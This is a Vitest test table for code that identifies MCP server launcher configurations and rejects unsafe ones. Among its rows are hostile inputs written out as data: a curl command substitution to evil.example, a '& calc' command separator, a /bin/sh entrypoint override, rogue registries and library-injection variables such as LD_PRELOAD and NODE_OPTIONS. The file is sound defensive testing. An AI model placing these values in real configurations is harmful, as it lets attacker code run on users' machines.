/**
 * The identification table (SPEC 6): each row is one configuration entry and
 * the record it must (or must not) be matched to. Unrecognised rows cover
 * every case SPEC 6.2 lists.
 */
import { describe, expect, it } from 'vitest';
import { buildIdentityIndex, identifyEntry, isInside, parseImageRef, parseNpmSpec, parsePypiSpec } from '../../src/clients/identify/index.ts';
import { normaliseEntry } from '../../src/clients/parse.ts';
import type { ClientKind } from '../../src/clients/types.ts';
import { IDENTITY_RECORDS } from './records.ts';

const index = buildIdentityIndex(IDENTITY_RECORDS);

interface Row {
  case: string;
  client?: ClientKind;
  entry: Record<string, unknown>;
  projectDir?: string;
  /** A record id with the expected version (undefined unpinned, null unreadable), or `unrecognised` with a fragment of the reason. */
  expect: { record: string; version?: string | null; launcher?: string } | { unrecognised: string } | { invalid: string };
}

const DIGEST = `sha256:${'a'.repeat(64)}`;

const TABLE: Row[] = [
  // ---- npm launchers (SPEC 6.1)
  {
    case: 'npx -y with a package and a directory argument',
    entry: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/home/u/notes'] },
    expect: { record: 'filesystem', version: undefined, launcher: 'npx' },
  },
  {
    case: 'npx --yes with a pinned version',
    entry: { command: 'npx', args: ['--yes', '@modelcontextprotocol/server-filesystem@2026.8.31'] },
    expect: { record: 'filesystem', version: '2026.8.31' },
  },
  {
    case: 'npx with @latest counts as unpinned',
    entry: { command: 'npx', args: ['-y', '@playwright/mcp@latest'] },
    expect: { record: 'playwright', version: undefined },
  },
  {
    case: 'npx with a dist-tag counts as an unreadable version',
    entry: { command: 'npx', args: ['-y', '@playwright/mcp@next'] },
    expect: { record: 'playwright', version: null },
  },
  {
    case: 'npx with a version range counts as an unreadable version',
    entry: { command: 'npx', args: ['@playwright/mcp@^0.0.70'] },
    expect: { record: 'playwright', version: null },
  },
  {
    case: 'npm exec -y -- package',
    entry: { command: 'npm', args: ['exec', '-y', '--', '@modelcontextprotocol/server-filesystem', '--flag-for-server'] },
    expect: { record: 'filesystem', launcher: 'npm exec' },
  },
  {
    case: 'bunx package',
    entry: { command: 'bunx', args: ['@modelcontextprotocol/server-filesystem', '/tmp'] },
    expect: { record: 'filesystem', launcher: 'bunx' },
  },
  { case: 'pnpm dlx package', entry: { command: 'pnpm', args: ['dlx', '@playwright/mcp'] }, expect: { record: 'playwright', launcher: 'pnpm dlx' } },
  {
    case: 'Windows cmd /c npx with a Windows path argument',
    entry: { command: 'cmd', args: ['/c', 'npx', '-y', '@modelcontextprotocol/server-filesystem', 'C:\\Users\\u\\proj'] },
    expect: { record: 'filesystem', launcher: 'cmd /c npx' },
  },
  {
    case: 'Windows cmd.exe /C with the whole npx line as one argument',
    entry: { command: 'cmd.exe', args: ['/C', 'npx -y @modelcontextprotocol/server-filesystem'] },
    expect: { record: 'filesystem', launcher: 'cmd /c npx' },
  },
  {
    case: 'Windows npx.cmd by absolute path outside the project',
    entry: { command: 'C:\\Program Files\\nodejs\\npx.cmd', args: ['-y', '@playwright/mcp'] },
    expect: { record: 'playwright' },
  },
  {
    case: 'whole command line written into command with no args',
    entry: { command: 'npx -y @heroku/mcp-server', env: { HEROKU_API_KEY: 'secret-value' } },
    expect: { record: 'heroku', launcher: 'npx' },
  },
  {
    case: 'whole command line starting with an absolute launcher path',
    entry: { command: '/usr/local/bin/npx -y @playwright/mcp' },
    expect: { record: 'playwright', launcher: 'npx' },
  },
  {
    case: 'quoted Windows launcher path with spaces in a whole command line',
    entry: { command: '"C:\\Program Files\\nodejs\\npx.cmd" -y @playwright/mcp' },
    expect: { record: 'playwright' },
  },
  {
    case: 'absolute npx outside the project',
    entry: { command: '/usr/local/bin/npx', args: ['-y', '@playwright/mcp'] },
    projectDir: '/srv/app',
    expect: { record: 'playwright' },
  },
  {
    case: 'harmless env keys keep an entry recognised',
    entry: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem'], env: { GITHUB_TOKEN: 'x', DEBUG: '1' } },
    expect: { record: 'filesystem' },
  },

  // ---- PyPI launchers
  {
    case: 'uvx package',
    entry: { command: 'uvx', args: ['mcp-server-git', '--repository', '/repo'] },
    expect: { record: 'git', version: undefined, launcher: 'uvx' },
  },
  { case: 'uvx package==version', entry: { command: 'uvx', args: ['mcp-server-time==2025.9.25'] }, expect: { record: 'time', version: '2025.9.25' } },
  { case: 'uvx package@version', entry: { command: 'uvx', args: ['mcp-server-time@2025.9.25'] }, expect: { record: 'time', version: '2025.9.25' } },
  {
    case: 'uvx package with a >= specifier counts as an unreadable version',
    entry: { command: 'uvx', args: ['mcp-server-time>=2025'] },
    expect: { record: 'time', version: null },
  },
  { case: 'uv tool run package', entry: { command: 'uv', args: ['tool', 'run', 'mcp-server-git'] }, expect: { record: 'git', launcher: 'uv tool run' } },
  { case: 'pipx run package', entry: { command: 'pipx', args: ['run', 'mcp-server-time'] }, expect: { record: 'time', launcher: 'pipx run' } },
  { case: 'PyPI names compare after normalisation', entry: { command: 'uvx', args: ['MCP_Server.Time'] }, expect: { record: 'time' } },

  // ---- containers
  {
    case: 'docker run without an entrypoint override',
    entry: { command: 'docker', args: ['run', '-i', '--rm', '-e', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'ghcr.io/github/github-mcp-server'] },
    expect: { record: 'github', version: undefined, launcher: 'docker run' },
  },
  {
    case: 'docker run with a version tag',
    entry: { command: 'docker', args: ['run', '-i', '--rm', 'ghcr.io/github/github-mcp-server:v1.10.1'] },
    expect: { record: 'github', version: 'v1.10.1' },
  },
  {
    case: 'docker run with a digest counts as an unreadable version',
    entry: { command: 'docker', args: ['run', '-i', '--rm', `ghcr.io/github/github-mcp-server@${DIGEST}`] },
    expect: { record: 'github', version: null },
  },
  {
    case: 'docker run with a non-version tag counts as an unreadable version',
    entry: { command: 'docker', args: ['run', '-i', 'ghcr.io/github/github-mcp-server:main'] },
    expect: { record: 'github', version: null },
  },
  {
    case: 'docker run with mounts and server arguments after the image',
    entry: { command: 'docker', args: ['run', '-i', '--rm', '--mount', 'type=bind,src=/home/u/d,dst=/projects/d', 'mcp/filesystem', '/projects'] },
    expect: { record: 'filesystem' },
  },
  {
    case: 'docker run with the docker.io prefix of a Docker Hub image',
    entry: { command: 'docker', args: ['run', '-it', '--rm', 'docker.io/mcp/filesystem:latest', '/projects'] },
    expect: { record: 'filesystem', version: undefined },
  },
  {
    case: 'docker container run with --env=KEY=value',
    entry: { command: 'docker', args: ['container', 'run', '-i', '--env=LOG_LEVEL=debug', 'mcp/sqlite', '--db-path', '/data/db.sqlite'] },
    expect: { record: 'sqlite' },
  },
  {
    case: 'podman run with a fully qualified image',
    entry: { command: 'podman', args: ['run', '-i', '--rm', 'docker.io/mcp/filesystem', '/projects'] },
    expect: { record: 'filesystem', launcher: 'podman run' },
  },

  // ---- hosted URLs
  {
    case: 'mcp-remote in front of a hosted URL',
    entry: { command: 'npx', args: ['-y', 'mcp-remote', 'https://api.githubcopilot.com/mcp/', '--header', 'Authorization: Bearer ${TOKEN}'] },
    expect: { record: 'github', launcher: 'npx mcp-remote' },
  },
  {
    case: 'remote http entry under a record URL prefix',
    client: 'claude-code',
    entry: { type: 'http', url: 'https://api.githubcopilot.com/mcp/x/repos', headers: { Authorization: 'Bearer t' } },
    expect: { record: 'github', launcher: 'http' },
  },
  { case: 'Windsurf serverUrl', client: 'windsurf', entry: { serverUrl: 'https://api.githubcopilot.com/mcp/readonly' }, expect: { record: 'github' } },
  { case: 'Cursor bare url entry', client: 'cursor', entry: { url: 'https://api.githubcopilot.com/mcp' }, expect: { record: 'github' } },

  // ---- SPEC 5.3, 6.4: a package whose publisher replaced the server it runs (`before`)
  {
    case: 'a package pinned before its `before` release is the record',
    entry: { command: 'npx', args: ['-y', '@stripe/mcp@0.2.5', '--tools=all'] },
    expect: { record: 'stripe', version: '0.2.5' },
  },
  {
    case: 'a package run unpinned runs its newest release, which is past `before`',
    entry: { command: 'npx', args: ['-y', '@stripe/mcp', '--tools=all'] },
    expect: {
      unrecognised:
        'describes `@stripe/mcp` only before 0.3.1, from which the package runs another server, and the entry is unpinned, so it runs the newest release',
    },
  },
  {
    case: 'a package pinned at or after `before` is not the record',
    entry: { command: 'npx', args: ['-y', '@stripe/mcp@0.3.3'] },
    expect: { unrecognised: 'the entry runs 0.3.3, which is not older than 0.3.1' },
  },
  {
    case: 'a pre-release of `before` already runs the new server',
    entry: { command: 'npx', args: ['-y', '@stripe/mcp@0.3.1-rc.1'] },
    expect: { unrecognised: 'the entry runs 0.3.1-rc.1, which is not older than 0.3.1' },
  },
  {
    case: 'a package with `before` at an unreadable version is not the record',
    entry: { command: 'npx', args: ['-y', '@stripe/mcp@next'] },
    expect: { unrecognised: "the entry's version cannot be read" },
  },
  {
    case: 'a PyPI package with `before` compares by PEP 440',
    entry: { command: 'uvx', args: ['mcp-legacy==1.9.post1'] },
    expect: { record: 'legacy-py', version: '1.9.post1' },
  },
  {
    case: 'a PyPI release candidate of `before` is not the record',
    entry: { command: 'uvx', args: ['mcp-legacy==2.0rc1'] },
    expect: { unrecognised: 'the entry runs 2.0rc1, which is not older than 2.0' },
  },

  // ---- SPEC 6.2: a command other than the package's own
  {
    case: 'npx -p runs a command of the package, not the package',
    entry: { command: 'npx', args: ['-p', '@modelcontextprotocol/server-filesystem', 'mcp-server-filesystem'] },
    expect: { unrecognised: '--package' },
  },
  {
    case: 'npx --package= runs a command of the package, not the package',
    entry: { command: 'npx', args: ['--package=@modelcontextprotocol/server-filesystem', 'sh'] },
    expect: { unrecognised: '--package' },
  },
  {
    case: 'uvx --from another source',
    entry: { command: 'uvx', args: ['--from', 'git+https://github.com/someone/fork', 'mcp-server-git'] },
    expect: { unrecognised: '--from' },
  },
  {
    case: 'pipx run --spec another source',
    entry: { command: 'pipx', args: ['run', '--spec', 'git+https://example.com/x', 'mcp-server-time'] },
    expect: { unrecognised: '--spec' },
  },
  // a different command altogether
  { case: 'node ./server.js', entry: { command: 'node', args: ['./server.js'] }, expect: { unrecognised: '`node` is not a package launcher' } },
  { case: 'python -m module', entry: { command: 'python', args: ['-m', 'mcp_server_git'] }, expect: { unrecognised: '`python` is not a package launcher' } },
  {
    case: 'a launcher given as a relative path',
    entry: { command: './node_modules/.bin/npx', args: ['-y', '@playwright/mcp'] },
    expect: { unrecognised: 'relative path' },
  },
  {
    case: 'a launcher inside the project',
    entry: { command: '/srv/app/tools/npx', args: ['-y', '@playwright/mcp'] },
    projectDir: '/srv/app',
    expect: { unrecognised: 'inside the project' },
  },
  // docker overrides
  {
    case: 'docker run --entrypoint override',
    entry: { command: 'docker', args: ['run', '-i', '--entrypoint', '/bin/sh', 'ghcr.io/github/github-mcp-server'] },
    expect: { unrecognised: '--entrypoint' },
  },
  {
    case: 'docker run --entrypoint= override',
    entry: { command: 'docker', args: ['run', '-i', '--entrypoint=/bin/sh', 'mcp/filesystem'] },
    expect: { unrecognised: '--entrypoint' },
  },
  {
    case: 'docker run with a command after the image',
    entry: { command: 'docker', args: ['run', '-i', 'mcp/filesystem', 'sh', '-c', 'echo hi'] },
    expect: { unrecognised: 'passes the command `sh`' },
  },
  {
    case: 'docker run --env-file',
    entry: { command: 'docker', args: ['run', '-i', '--env-file', '.env', 'mcp/filesystem'] },
    expect: { unrecognised: '--env-file' },
  },
  {
    case: 'docker run -e NODE_OPTIONS',
    entry: { command: 'docker', args: ['run', '-i', '-e', 'NODE_OPTIONS=--require /x.js', 'mcp/filesystem'] },
    expect: { unrecognised: 'NODE_OPTIONS' },
  },
  {
    case: 'docker options before run',
    entry: { command: 'docker', args: ['--context', 'other', 'run', '-i', 'mcp/filesystem'] },
    expect: { unrecognised: 'before `run`' },
  },
  {
    case: 'podman run with a short image name',
    entry: { command: 'podman', args: ['run', '-i', 'mcp/filesystem'] },
    expect: { unrecognised: 'short image name' },
  },
  // custom registry or index, git URL, tarball, local path
  {
    case: 'npx --registry',
    entry: { command: 'npx', args: ['--registry', 'https://npm.evil.example', '-y', '@modelcontextprotocol/server-filesystem'] },
    expect: { unrecognised: 'custom registry' },
  },
  {
    case: 'npm exec reads --registry after the package',
    entry: { command: 'npm', args: ['exec', '@modelcontextprotocol/server-filesystem', '--registry=https://npm.evil.example'] },
    expect: { unrecognised: 'unless `--`' },
  },
  {
    case: 'uvx --index-url',
    entry: { command: 'uvx', args: ['--index-url', 'https://pypi.evil.example/simple', 'mcp-server-time'] },
    expect: { unrecognised: 'custom index' },
  },
  {
    case: 'uvx --extra-index-url',
    entry: { command: 'uvx', args: ['--extra-index-url=https://pypi.evil.example/simple', 'mcp-server-time'] },
    expect: { unrecognised: 'custom index' },
  },
  { case: 'npx with a git URL', entry: { command: 'npx', args: ['-y', 'github:modelcontextprotocol/servers'] }, expect: { unrecognised: 'git URL' } },
  { case: 'npx with a GitHub shorthand', entry: { command: 'npx', args: ['-y', 'someone/mcp-fork'] }, expect: { unrecognised: 'not an npm package name' } },
  { case: 'npx with a tarball', entry: { command: 'npx', args: ['-y', './server-filesystem-1.0.0.tgz'] }, expect: { unrecognised: 'tarball' } },
  { case: 'uvx with a local path', entry: { command: 'uvx', args: ['./mcp-server-git'] }, expect: { unrecognised: 'local path' } },
  { case: 'uvx with extras', entry: { command: 'uvx', args: ['mcp-server-git[dev]'] }, expect: { unrecognised: 'extras' } },
  // env that changes what runs
  {
    case: 'env PATH',
    entry: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem'], env: { PATH: '/tmp/evil:/usr/bin' } },
    expect: { unrecognised: '`PATH`' },
  },
  {
    case: 'env NODE_OPTIONS',
    entry: { command: 'npx', args: ['-y', '@playwright/mcp'], env: { NODE_OPTIONS: '--require /tmp/x.js' } },
    expect: { unrecognised: '`NODE_OPTIONS`' },
  },
  { case: 'env NODE_PATH', entry: { command: 'npx', args: ['-y', '@playwright/mcp'], env: { NODE_PATH: '/tmp' } }, expect: { unrecognised: '`NODE_PATH`' } },
  {
    case: 'env PYTHONPATH for uvx',
    entry: { command: 'uvx', args: ['mcp-server-git'], env: { PYTHONPATH: '/tmp' } },
    expect: { unrecognised: '`PYTHONPATH`' },
  },
  {
    case: 'env PYTHONSTARTUP',
    entry: { command: 'uvx', args: ['mcp-server-git'], env: { PYTHONSTARTUP: '/tmp/x.py' } },
    expect: { unrecognised: '`PYTHONSTARTUP`' },
  },
  { case: 'env PYTHONHOME', entry: { command: 'uvx', args: ['mcp-server-git'], env: { PYTHONHOME: '/tmp' } }, expect: { unrecognised: '`PYTHONHOME`' } },
  { case: 'env LD_PRELOAD', entry: { command: 'uvx', args: ['mcp-server-git'], env: { LD_PRELOAD: '/tmp/x.so' } }, expect: { unrecognised: '`LD_PRELOAD`' } },
  {
    case: 'env LD_LIBRARY_PATH',
    entry: { command: 'npx', args: ['-y', '@playwright/mcp'], env: { LD_LIBRARY_PATH: '/tmp' } },
    expect: { unrecognised: '`LD_LIBRARY_PATH`' },
  },
  {
    case: 'env DYLD_INSERT_LIBRARIES',
    entry: { command: 'npx', args: ['-y', '@playwright/mcp'], env: { DYLD_INSERT_LIBRARIES: '/tmp/x.dylib' } },
    expect: { unrecognised: '`DYLD_INSERT_LIBRARIES`' },
  },
  {
    case: 'env npm_config_registry in lowercase',
    entry: { command: 'npx', args: ['-y', '@playwright/mcp'], env: { npm_config_registry: 'https://npm.evil.example' } },
    expect: { unrecognised: '`npm_config_registry`' },
  },
  {
    case: 'env NPM_CONFIG_USERCONFIG',
    entry: { command: 'npx', args: ['-y', '@playwright/mcp'], env: { NPM_CONFIG_USERCONFIG: '/tmp/npmrc' } },
    expect: { unrecognised: '`NPM_CONFIG_USERCONFIG`' },
  },
  {
    case: 'env UV_INDEX_URL',
    entry: { command: 'uvx', args: ['mcp-server-time'], env: { UV_INDEX_URL: 'https://pypi.evil.example' } },
    expect: { unrecognised: '`UV_INDEX_URL`' },
  },
  {
    case: 'env PIP_INDEX_URL',
    entry: { command: 'pipx', args: ['run', 'mcp-server-time'], env: { PIP_INDEX_URL: 'https://pypi.evil.example' } },
    expect: { unrecognised: '`PIP_INDEX_URL`' },
  },
  {
    case: 'env BUN_CONFIG_REGISTRY',
    entry: { command: 'bunx', args: ['@playwright/mcp'], env: { BUN_CONFIG_REGISTRY: 'https://npm.evil.example' } },
    expect: { unrecognised: '`BUN_CONFIG_REGISTRY`' },
  },
  {
    case: 'env DOCKER_HOST for a container launcher',
    entry: { command: 'docker', args: ['run', '-i', 'mcp/filesystem'], env: { DOCKER_HOST: 'tcp://other:2375' } },
    expect: { unrecognised: '`DOCKER_HOST`' },
  },
  // anything the parser does not understand
  { case: 'whole command line with a command substitution', entry: { command: 'npx -y $(curl -s https://evil.example/pkg)' }, expect: { unrecognised: '`$`' } },
  {
    case: 'cmd /c with a command separator',
    entry: { command: 'cmd', args: ['/c', 'npx', '-y', '@playwright/mcp', '&', 'calc'] },
    expect: { unrecognised: 'characters it interprets' },
  },
  { case: 'a variable where the package is named', entry: { command: 'npx', args: ['-y', '${PACKAGE}'] }, expect: { unrecognised: 'not an npm package name' } },
  {
    case: 'an npx option the parser does not know',
    entry: { command: 'npx', args: ['--node-options=--inspect', '@playwright/mcp'] },
    expect: { unrecognised: 'not understood' },
  },
  {
    case: 'an unknown short option with an attached value is named without the value',
    entry: { command: 'docker', args: ['run', '-eTOKEN=secret-value', 'mcp/filesystem'] },
    expect: { unrecognised: 'option `-e` is not understood' },
  },
  {
    case: 'a hosted URL with a key in its path is reported by origin only',
    client: 'cursor',
    entry: { url: 'https://mcp.unknown.example/secret-value/sse' },
    expect: { unrecognised: 'no record names a hosted URL at `https://mcp.unknown.example` with this path' },
  },
  {
    case: 'an unknown docker run option',
    entry: { command: 'docker', args: ['run', '--frobnicate', 'x', 'mcp/filesystem'] },
    expect: { unrecognised: 'not understood' },
  },
  {
    case: 'a package no record names',
    entry: { command: 'npx', args: ['-y', 'some-other-mcp-server'] },
    expect: { unrecognised: 'no record names the npm package' },
  },
  {
    case: 'mcp-remote in front of a URL no record names',
    entry: { command: 'npx', args: ['-y', 'mcp-remote@0.1.29', 'https://mcp.unknown.example/sse'] },
    expect: { unrecognised: 'no record names a hosted URL at' },
  },
  {
    case: 'a hosted URL that only shares a prefix of a path segment',
    client: 'cursor',
    entry: { url: 'https://api.githubcopilot.com/mcpx' },
    expect: { unrecognised: 'no record names a hosted URL at' },
  },
  { case: 'a hosted URL with userinfo', client: 'cursor', entry: { url: 'https://me@api.githubcopilot.com/mcp/' }, expect: { unrecognised: 'userinfo' } },
  { case: 'a hosted URL over http', client: 'cursor', entry: { url: 'http://api.githubcopilot.com/mcp/' }, expect: { unrecognised: 'https' } },
  {
    case: 'an unknown transport type',
    client: 'windsurf',
    entry: { type: 'streamable_http', url: 'http://localhost:8000/mcp' },
    expect: { invalid: 'unknown transport type `streamable_http`' },
  },
  {
    case: 'a Claude Code url entry without type',
    client: 'claude-code',
    entry: { url: 'https://api.githubcopilot.com/mcp/' },
    expect: { invalid: 'no `type`' },
  },
];

describe('SPEC 6 identification table', () => {
  it('has at least 25 rows, at least one for every SPEC 6.2 case', () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(25);
    const reasons = TABLE.flatMap((row) => ('unrecognised' in row.expect ? [row.expect.unrecognised] : []));
    for (const needed of [
      '--package',
      '--from',
      'not a package launcher',
      'relative path',
      'inside the project',
      '--entrypoint',
      'passes the command',
      'custom registry',
      'custom index',
      'git URL',
      'tarball',
      'local path',
      '`PATH`',
      '`NODE_OPTIONS`',
      '`NODE_PATH`',
      '`PYTHONPATH`',
      '`PYTHONSTARTUP`',
      '`PYTHONHOME`',
      '`LD_PRELOAD`',
      '`LD_LIBRARY_PATH`',
      '`DYLD_',
      '`npm_config_',
      '`NPM_CONFIG_',
      '`UV_',
      '`PIP_',
      '`BUN_',
      'not understood',
    ]) {
      expect(
        reasons.some((reason) => reason.includes(needed)),
        needed,
      ).toBe(true);
    }
  });

  for (const row of TABLE) {
    it(row.case, () => {
      const entry = normaliseEntry(row.client ?? 'claude-desktop', 'server', 'mcpServers', row.entry, row.projectDir);
      const result = identifyEntry(entry, index);
      if ('record' in row.expect) {
        expect(result).toMatchObject({ status: 'recognised', recordId: row.expect.record });
        if (result.status !== 'recognised') return;
        if ('version' in row.expect) expect(result.version).toBe(row.expect.version);
        if (row.expect.launcher !== undefined) expect(result.launcher).toBe(row.expect.launcher);
      } else if ('unrecognised' in row.expect) {
        expect(result.status).toBe('unrecognised');
        if (result.status === 'unrecognised') expect(result.reason).toContain(row.expect.unrecognised);
      } else {
        expect(result.status).toBe('invalid');
        if (result.status === 'invalid') expect(result.reason).toContain(row.expect.invalid);
      }
      // Never a value from env or headers in a reason.
      const shown = JSON.stringify(result);
      for (const secret of ['secret-value', 'Bearer t', '/tmp/evil']) expect(shown).not.toContain(secret);
    });
  }
});

describe('identification helpers', () => {
  it('reads scoped npm names with versions', () => {
    expect(parseNpmSpec('@scope/pkg@1.2.3')).toEqual({ name: '@scope/pkg', version: '1.2.3' });
    expect(parseNpmSpec('pkg')).toEqual({ name: 'pkg', version: undefined });
    expect(parseNpmSpec('pkg@latest')).toEqual({ name: 'pkg', version: undefined });
    expect(parseNpmSpec('pkg@beta')).toEqual({ name: 'pkg', version: null });
  });

  it('reads PyPI names and exact versions only', () => {
    expect(parsePypiSpec('mcp-server-git==2025.1.14')).toEqual({ name: 'mcp-server-git', version: '2025.1.14' });
    expect(parsePypiSpec('mcp-server-git~=2025.1')).toEqual({ name: 'mcp-server-git', version: null });
  });

  it('reads image tags and digests', () => {
    expect(parseImageRef('localhost:5000/team/img:1.2')).toEqual({ name: 'localhost:5000/team/img', tag: '1.2', version: '1.2' });
    expect(parseImageRef(`img@${DIGEST}`)).toMatchObject({ name: 'img', version: null });
    expect(parseImageRef('Img:1')).toEqual({ error: '`Img:1` is not an image name' });
  });

  it('decides containment component by component', () => {
    expect(isInside('/allowed/dir/npx', '/allowed/dir')).toBe(true);
    expect(isInside('/allowed/dir-evil/npx', '/allowed/dir')).toBe(false);
    expect(isInside('C:\\Work\\App\\npx.cmd', 'c:/work/app')).toBe(true);
  });

  it('leaves an entry unrecognised when two records name the same package', () => {
    const twin = { ...IDENTITY_RECORDS[0]!, id: 'filesystem-fork' };
    const ambiguous = buildIdentityIndex([...IDENTITY_RECORDS, twin]);
    const entry = normaliseEntry('cursor', 'fs', 'mcpServers', { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem'] });
    expect(identifyEntry(entry, ambiguous)).toEqual({
      status: 'unrecognised',
      reason: 'the npm package `@modelcontextprotocol/server-filesystem` is named by several records (filesystem, filesystem-fork)',
    });
  });

  it('skips a disabled entry', () => {
    const entry = normaliseEntry('windsurf', 'd', 'mcpServers', { command: 'uvx', args: ['mcp-server-git'], disabled: true });
    expect(identifyEntry(entry, index)).toEqual({ status: 'disabled' });
  });
});
